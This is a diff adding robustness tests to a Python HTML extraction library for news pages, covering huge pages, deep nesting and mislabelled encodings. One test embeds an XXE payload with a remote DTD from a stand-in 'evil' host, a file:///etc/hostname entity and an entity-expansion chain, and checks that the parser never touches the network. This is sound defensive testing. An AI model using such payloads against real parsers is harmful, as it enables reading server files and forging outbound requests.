@@ -2,7 +2,12 @@
 
 from __future__ import annotations
 
-from newscorpus import extract_html
+import socket
+from pathlib import Path
+
+import pytest
+
+from newscorpus import Corpus, extract_html
 from newscorpus.htmlblocks import parse_html
 from newscorpus.meta import strip_site_name
 
@@ -103,3 +108,53 @@ def test_hostile_html() -> None:
     assert len(extract_html(big).paragraphs) > 30_000
     assert extract_html("").text == "" and extract_html("<<<>>>").text == ""
     assert parse_html("\x00\x01 binary-ish <p>text</p>").blocks[-1].text == "text"
+
+
+def test_fifty_megabyte_page_with_huge_text_nodes() -> None:
+    # libxml2 drops a text node over 10 MB and what follows it unless told not to.
+    script = "<script>" + "var a = 1;" * 3_000_000 + "</script>"
+    long_para = "<p>" + (PARAS[1] + " ") * 250_000 + "</p>"
+    html = f"<html><head>{script}</head><body>{long_para}<p>{PARAS[0]}</p></body></html>"
+    assert len(html) > 50_000_000
+    art = extract_html(html)
+    assert art.paragraphs[-1] == PARAS[0]
+    assert "var a" not in art.text
+
+
+def test_deep_but_parseable_nesting_and_deep_inline_tags() -> None:
+    deep = "<div>" * 2_000 + page() + "</div>" * 2_000
+    assert extract_html(deep).paragraphs == tuple(PARAS)
+    inline = "<p>" + "<b>" * 100_000 + PARAS[0] + "</b>" * 100_000 + "</p>"
+    assert PARAS[0] in extract_html(inline).text
+
+
+def test_external_dtd_and_entities_never_touch_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
+    def refuse(*_args: object, **_kwargs: object) -> None:
+        raise AssertionError("network access attempted")
+
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    html = (
+        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
+        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd" [<!ENTITY % remote SYSTEM '
+        '"http://example.invalid/evil.dtd"> %remote; <!ENTITY xxe SYSTEM "file:///etc/hostname">'
+        '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
+        + page(article_extra="<p>&xxe;&lol2;</p>")
+    )
+    art = extract_html(html)
+    assert art.paragraphs == tuple(PARAS)
+    assert "lollol" not in art.text
+
+
+def test_broken_and_mislabelled_encodings_load(tmp_path: Path) -> None:
+    russian = "Городской совет одобрил новый план защиты от наводнений во вторник вечером."
+    body = f"<html><head><meta charset='{{}}'></head><body><p>{russian}</p></body></html>"
+    (tmp_path / "a.html").write_bytes(body.format("utf-8").encode("cp1251"))  # lies
+    (tmp_path / "b.html").write_bytes(body.format("windows-1252").encode("utf-8"))  # lies
+    broken = body.format("utf-8").encode("utf-8")
+    (tmp_path / "c.html").write_bytes(broken[:120] + b"\xff\xfe\xc3" + broken[120:])
+    (tmp_path / "d.html").write_bytes(body.format("nonsense-charset").encode("utf-16"))
+    corpus = Corpus.load(tmp_path, errors="skip")
+    texts = [a.text for a in corpus]
+    assert len(texts) == 4
+    assert sum(russian in t for t in texts) >= 3
